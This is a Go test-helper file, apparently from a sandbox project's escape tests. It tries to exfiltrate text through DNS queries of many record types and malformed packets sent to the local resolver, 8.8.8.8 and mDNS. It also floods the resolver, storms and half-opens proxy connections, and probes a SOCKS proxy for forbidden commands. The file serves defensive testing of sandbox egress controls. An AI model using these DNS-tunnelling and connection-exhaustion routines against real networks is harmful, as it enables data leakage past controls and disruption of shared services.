//go:build linux

package escape

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/fencepost/fencepost/internal/test/testkit"
)

// What the rows N08 and N11 do to what serves a run.

// query is a query of DNS for a name in labels.
func query(labels []string, kind uint16) []byte {
	q := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range labels {
		q = append(append(q, byte(len(l))), l...)
	}
	return binary.BigEndian.AppendUint16(append(q, 0), kind)
}

func class(q []byte) []byte { return append(q, 0, 1) }

// nameserver is the one of the machine that the tool is on.
func nameserver() (string, error) {
	text, err := os.ReadFile("/etc/resolv.conf")
	for line := range strings.Lines(string(text)) {
		if f := strings.Fields(line); len(f) > 1 && f[0] == "nameserver" {
			return net.JoinHostPort(f[1], "53"), nil
		}
	}
	return "", errors.Join(err, errors.New("no name server"))
}

// queries sends a text to name servers in each way that packets of DNS have.
func queries(text, domain string) error {
	own, err := nameserver()
	if err != nil {
		return err
	}
	var packets [][]byte
	labels := append([]string{text}, strings.Split(domain, ".")...)
	for _, kind := range []uint16{1, 28, 16, 15, 33, 10, 12, 5, 2, 6, 13, 35, 64, 65, 99, 255, 257,
		65535} {
		packets = append(packets, class(query(labels, kind)))
	}
	long := strings.Repeat("x", 63-len(text)) + text
	packets = append(packets,
		class(query(append([]string{long, long, long[:40]}, labels[1:]...), 1)),
		class(query(append([]string{long, long, long, long}, labels[1:]...), 16)),
		// a name that is its own end, and one that ends in the middle of another
		append(class([]byte("\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01")), text...),
		append([]byte("\x00\x07\x01\x00\x00\x02\x00\x00\x00\x00\x00\x00"), text...),
		// text behind a query, and in a record beside it
		append(class(query(labels[1:], 1)), text...),
		append(append([]byte("\x00\x07\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01"),
			class(query(labels[1:], 1))[12:]...), "\x00\x00\x29\x04\xd0\x00\x00\x00\x00\x00\x06"+text...),
		[]byte(text))
	for _, server := range []string{own, namesAddr + ":53", "8.8.8.8:53", "[2001:4860:4860::8888]:53",
		"224.0.0.251:5353"} {
		for _, network := range []string{"udp", "tcp"} {
			askAll(network, server, packets)
		}
	}
	return nil
}

// askAll sends packets, and waits for no answer but for a moment.
func askAll(network, server string, packets [][]byte) {
	c, err := net.DialTimeout(network, server, time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Second))
	for _, p := range packets {
		if network == "tcp" {
			p = append(binary.BigEndian.AppendUint16(nil, uint16(len(p))), p...)
		}
		_, _ = c.Write(p)
	}
	_ = c.SetDeadline(time.Now().Add(20 * time.Millisecond))
	_, _ = c.Read(make([]byte, 512))
}

// flood asks the name server for many names, each another one, and for what is none.
func flood(n int) error {
	own, err := nameserver()
	if err != nil {
		return err
	}
	c, err := net.Dial("udp", own)
	if err != nil {
		return err
	}
	defer c.Close()
	b := make([]byte, 4096)
	for i := range n {
		domain := "evil"
		if i%2 == 0 {
			domain = "wild"
		}
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		if _, err := c.Write(class(query([]string{fmt.Sprint("n", i), domain, "test"}, 1))); err != nil {
			return err
		}
		if _, err := c.Read(b); err != nil {
			return fmt.Errorf("query %d: %w", i, err)
		}
		if i%64 == 0 {
			for j := range b[:600] {
				b[j] = byte(rand.Uint32())
			}
			_, _ = c.Write(b[:1+rand.IntN(600)])
			_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
			_, _ = c.Read(b)
		}
	}
	return nil
}

// storm makes ten thousand connections with a host, then more at a time than may be, and leaves
// some that have begun something and do not go on.
func storm(host string) error {
	at := func(addr, say string) net.Conn {
		c, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(context.Background(), "tcp", addr)
		if err != nil {
			return nil
		}
		_, _ = io.WriteString(c, say)
		return c
	}
	var open []net.Conn
	reached := 0
	for range 10000 {
		if c := at(host+":22", ""); c != nil {
			open = append(open, c)
			reached++
		}
		if len(open) == 100 {
			for _, c := range open {
				c.Close()
			}
			open = open[:0]
		}
	}
	if reached < 9000 {
		return fmt.Errorf("%d of 10000 connections", reached)
	}
	for range 700 {
		if c := at(host+":22", ""); c != nil {
			open = append(open, c)
		}
	}
	for _, c := range open {
		c.Close()
	}
	// A connection that is served shows that there is room again.
	if !testkit.Eventually(func() bool { return proxied(host) }) {
		return errors.New("the proxy serves nobody any more")
	}
	open = open[:0]
	for range 40 {
		for _, half := range [][2]string{{"127.0.0.1:3128", "CONNECT " + host + ":22 HTTP/1.1\r\nA:"},
			{"127.0.0.1:3128", ""}, {"127.0.0.1:1080", "\x05\x01"}, {"127.0.0.1:53", "\x01"},
			{host + ":443", "\x16\x03\x01"}, {host + ":80", "GE"}} {
			if c := at(half[0], half[1]); c != nil {
				open = append(open, c)
			}
		}
	}
	if len(open) < 200 {
		return fmt.Errorf("%d connections are open", len(open))
	}
	fmt.Println("open")
	for range 4 { // a byte now and then
		time.Sleep(time.Second)
		for _, c := range open {
			_, _ = c.Write([]byte("x"))
		}
	}
	return unix.Pause() // until it is killed
}

// proxied reports whether the proxy of the sandbox connects with a host.
func proxied(host string) bool {
	c, err := net.Dial("tcp", "127.0.0.1:3128")
	if err != nil {
		return false
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(c, "CONNECT "+host+":22 HTTP/1.1\r\nHost: "+host+":22\r\n\r\n")
	said := make([]byte, 12)
	_, err = io.ReadFull(c, said)
	return err == nil && string(said) == "HTTP/1.1 200"
}

// socks asks the proxy of the sandbox for what SOCKS has beside CONNECT, and fails if it is given
// any of it.
func socks() error {
	name := "\x03\x09good.test\x00\x16"
	for text, want := range map[string]string{
		"\x05\x01\x00\x05\x02\x00" + name:                      "\x05\x00\x05\x07", // BIND
		"\x05\x01\x00\x05\x03\x00" + name:                      "\x05\x00\x05\x07", // UDP
		"\x05\x01\x02\x01\x01a\x01b":                           "\x05\xff",         // a password
		"\x05\x01\x01":                                         "\x05\xff",         // GSSAPI
		"\x04\x01\x00\x16\x0a\x4d\x00\x02me\x00":               "\x00\x5b",         // SOCKS4
		"\x04\x01\x00\x16\x00\x00\x00\x01me\x00good.test\x00":  "\x00\x5b",         // SOCKS4a
		"\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb":    "\x05\x00\x05\x02",
		"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x50": "\x05\x00\x05\x04",
		"\x05\x01\x00\x05\x01\x00" + name:                      "\x05\x00\x05\x00",
	} {
		c, err := net.Dial("tcp", "127.0.0.1:1080")
		if err != nil {
			return err
		}
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		_, _ = io.WriteString(c, text)
		got := make([]byte, len(want))
		_, err = io.ReadFull(c, got)
		c.Close()
		if !bytes.Equal(got, []byte(want)) {
			return fmt.Errorf("%q: %q, %w", text, got, err)
		}
	}
	return nil
}

// send sends without an end.
func send(addr string) error {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	b := make([]byte, 1<<16)
	for err == nil {
		_, err = c.Write(b)
	}
	return err
}
